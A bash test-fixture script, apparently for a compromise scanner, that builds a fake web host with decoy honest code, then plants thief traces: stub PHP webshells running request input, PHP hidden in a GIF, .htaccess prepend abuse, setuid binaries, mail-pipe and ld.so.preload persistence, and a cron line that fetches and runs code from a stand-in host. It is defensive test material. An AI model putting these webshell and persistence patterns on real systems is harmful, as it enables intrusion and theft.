# webroot.bash - a small host as a folder: packages, a web root of honest
# scripts, and what a thief leaves behind
#
# webroot_host DIR     honest: two packages, users, a site like many
# webroot_thief DIR    what came with him; webroot_traces lists what, where
# shellcheck shell=bash

webroot_host() {	# DIR
	local r=$1
	mkdir -p "$r"/{etc/cron.d,etc/systemd/system,usr/bin,usr/lib,tmp,var/tmp} \
		"$r"/var/lib/dpkg/info "$r"/home/{alice,shop}/.ssh \
		"$r"/var/spool/cron/crontabs \
		"$r"/home/shop/public_html/{wp-content/{uploads/2026,cache,plugins},wp-includes}
	ln -s usr/bin "$r/bin"
	cat >"$r/etc/passwd" <<-END
	root:x:0:0::/root:/bin/bash
	alice:x:1001:1001::/home/alice:/bin/bash
	shop:x:$(id -u):1002::/home/shop:/bin/bash
	END
	printf '#!/bin/sh\necho one\n' >"$r/usr/bin/one"
	printf 'library\n' >"$r/usr/lib/libone.so.1"
	printf 'setting\n' >"$r/etc/one.conf"
	chmod 755 "$r/usr/bin/one"
	(cd "$r" && md5sum usr/lib/libone.so.1 bin/one) \
		>"$r/var/lib/dpkg/info/one.md5sums"
	printf '%s\n' /. /usr/lib/libone.so.1 /bin/one /etc/one.conf \
		/usr/bin/two.distrib /etc/cron.d/one >"$r/var/lib/dpkg/info/one.list"
	printf '/usr/bin/two\n/usr/bin/two.distrib\nother\n' \
		>"$r/var/lib/dpkg/diversions"
	printf 'Package: one\nConffiles:\n /etc/one.conf %s\n' \
		"$(md5sum <"$r/etc/one.conf" | cut -d' ' -f1)" >"$r/var/lib/dpkg/status"
	printf '17 * * * * root cd / && run-parts /etc/cron.hourly\n' >"$r/etc/crontab"
	printf 'postmaster: root\nlist: "|/usr/lib/mailman/mail/mailman post list"\n' \
		>"$r/etc/aliases"
	printf '# nothing\n' >"$r/etc/ld.so.preload"
	printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG alice@laptop\n' \
		>"$r/home/alice/.ssh/authorized_keys"
	printf '[Service]\nExecStart=/usr/bin/one\nPrivateTmp=yes\n' \
		>"$r/etc/systemd/system/one.service"
	webroot_honest "$r/home/shop/public_html"
}

# What honest sites have, and simple searches take for something else
webroot_honest() {	# DIR
	local w=$1
	echo '<?php // Silence is golden.' >"$w/wp-content/uploads/index.php"
	printf 'RewriteEngine On\nphp_value upload_max_filesize 8M\nAddType image/webp .webp\n' \
		>"$w/.htaccess"
	printf 'memory_limit = 128M\nauto_prepend_file =\nauto_append_file = none\n' \
		>"$w/.user.ini"
	cat >"$w/contact.php" <<-'END'
	<?php
	/* Reads `$_POST`, as every form does; `eval` is not used. */
	$name = trim($_POST['name']);
	$mail = filter_var($_POST['mail'], FILTER_VALIDATE_EMAIL);
	if ($mail && $this->mail($_POST['x'])) {
		mail('shop@shop.example', 'Contact', $_POST['text'], 'Reply-To: ' . $mail);
	}
	foreach ($rows as $row) { $mailer->mail($row); echo $row['x']; }
	END
	cat >"$w/wp-includes/functions.php" <<-'END'
	<?php
	$data = unserialize(base64_decode($row['data']));
	$s = preg_replace('/\s+/se', ' ', $s) ?: preg_replace("~[^-\w]+~i", '', $s);
	$out = shell_exec('convert ' . escapeshellarg($file));
	$text = "\xEF\xBB\xBF\xC3\xA4\xC3\xB6\xC3\xBC";
	$db->exec($sql); Foo::eval($x); $reader->system($_POST['a']);
	call_user_func($callback, $_GET['page']);
	require __DIR__ . '/' . $template . '.php';
	define('ICON', 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ');
	$js = "eval(function(p,a,c,k){return p}('x'))";
	END
	sed -i 's/\/se/\/s/' "$w/wp-includes/functions.php"
	{
		echo '<?php $font = "'
		head -c 6000 /dev/zero | tr '\0' A
		echo '"; return base64_decode($font);'
	} >"$w/wp-includes/font.php"
	echo '<?php return ["a" => 1];' >"$w/wp-content/cache/compiled.php"
	printf '\211PNG\r\n\032\n and some <?= in it' >"$w/wp-content/uploads/2026/a.png"
	printf '#!/usr/bin/perl\nprint "Content-type: text/plain\\n\\n";\n' >"$w/hello.cgi"
	mkfifo "$w/wp-content/uploads/fifo.php"
	ln -s /etc/passwd "$w/link.php"
	ln -s . "$w/loop"
}

webroot_thief() {	# DIR
	local r=$1 w=$1/home/shop/public_html u
	u=$w/wp-content/uploads
	printf '#!/bin/sh\necho two\n' >"$r/usr/bin/one"
	printf 'setting changed\n' >"$r/etc/one.conf"
	printf '#!/bin/sh\n' >"$r/usr/bin/update-dns"
	cp "$(type -P true)" "$r/usr/bin/helper"
	cp "$(type -P true)" "$r/home/alice/python3.11"
	cp "$(type -P true)" "$r/var/tmp/.x"
	chmod 4755 "$r/usr/bin/helper" "$r/home/alice/python3.11"
	chmod 755 "$r/usr/bin/update-dns" "$r/var/tmp/.x"
	echo '<?php echo 1;' >"$u/2026/photo.php"
	printf 'GIF89a<?php echo 1; ?>' >"$u/2026/logo.gif"
	echo '<?php return 1;' >"$w/.cache.php"
	echo '<?php @eval(gzinflate(base64_decode("7X1")));' >"$w/wp-content/plugins/a.php"
	echo '<?php if (isset($_POST["k"])) { assert( stripslashes($_REQUEST["k"])); }' >"$w/b.php"
	echo '<?php $_POST["f"]($_POST["a"]);' >"$w/c.php"
	echo '<?php include($_GET["page"]);' >"$w/d.php"
	cat >"$w/e.php" <<-'END'
	<?php
	$to = explode("\n", $_POST['list']);
	foreach ($to as $one) {
		$body = str_replace('NAME', $one, $_POST['body']);
		@mail($one, $_POST['subject'], $body, $headers);
	}
	END
	echo '<?php mail(trim($_POST["to"]), $s, $b);' >"$w/f.php"
	printf '<?php\n\n$x = preg_replace("/.*/e", $code, "");' >"$w/g.php"
	echo '<?php $f = "b"."as"."e6"."4_"."de"."co"."de"; $f($x);' >"$w/h.php"
	printf '%s\n' '<?php $v = "\x65\x76\x61\x6c\x28\x24\x5f\x50\x4f\x53\x54\x29";' >"$w/i.php"
	echo '<?php $o = `$_GET[c]`;' >"$w/j.php"
	echo '<?php $O00OO0O = $x; $_[1]($_[2]);' >"$w/k.php"
	echo '<?php @include "images/x.ico";' >"$w/l.php"
	{
		echo '<?php $z = "'"$(head -c 3000 /dev/zero | tr '\0' Q)"'";'
		echo 'create_function("", $z);'
	} >"$w/m.php"
	printf 'AddHandler application/x-httpd-php .jpg\nphp_value auto_prepend_file /tmp/x\n' \
		>"$u/.htaccess"
	printf 'auto_prepend_file = "/home/shop/.x.php"\n' >"$u/.user.ini"
	printf '* * * * * curl -s http://x.example/a | sh\n' \
		>"$r/var/spool/cron/crontabs/shop"
	printf '*/5 * * * * shop php /home/shop/public_html/wp-content/uploads/2026/photo.php\n' \
		>"$r/etc/cron.d/zz"
	printf 'sales: "|/home/shop/.bin/send"\n' >>"$r/etc/aliases"
	printf '\\alice, "|/usr/bin/php /tmp/.m.php"\n' >"$r/home/alice/.forward"
	printf '# Exim filter\npipe "/usr/bin/perl /home/shop/x"\n' >"$r/home/shop/.forward"
	printf '/usr/local/lib/libx.so\n' >>"$r/etc/ld.so.preload"
	printf '[Service]\nExecStart=/dev/shm/kworker\n' >"$r/etc/systemd/system/dbus-x.service"
}

# LEVEL WHAT PATH of each of his traces, "any" for a level that does not matter
webroot_traces() {
	local w=/home/shop/public_html
	cat <<-END
	strong package-file /bin/one
	look stray-program /usr/bin/update-dns
	strong set-uid /usr/bin/helper
	strong set-uid /home/alice/python3.11
	look program-in-tmp /var/tmp/.x
	strong script-in-uploads $w/wp-content/uploads/2026/photo.php
	strong php-in-picture $w/wp-content/uploads/2026/logo.gif
	look hidden-script $w/.cache.php
	strong eval-packed $w/wp-content/plugins/a.php
	strong run-input $w/b.php
	strong call-input $w/c.php
	strong include-input $w/d.php
	strong mail-loop $w/e.php
	strong mail-list $w/e.php
	strong mail-input $w/f.php
	look regexp-run $w/g.php
	look pieces $w/h.php
	look written-as-numbers $w/i.php
	strong shell-input $w/j.php
	look names-alike $w/k.php
	look table-call $w/k.php
	look include-no-script $w/l.php
	look long-packed $w/m.php
	strong handler $w/wp-content/uploads/.htaccess
	look prepend $w/wp-content/uploads/.htaccess
	look ini-prepend $w/wp-content/uploads/.user.ini
	strong fetch-and-run /var/spool/cron/crontabs/shop
	strong cron-upload /etc/cron.d/zz
	look alias-pipe /etc/aliases
	look forward-pipe /home/alice/.forward
	strong from-tmp /home/alice/.forward
	look filter-pipe /home/shop/.forward
	strong preload /etc/ld.so.preload
	strong from-tmp /etc/systemd/system/dbus-x.service
	END
}
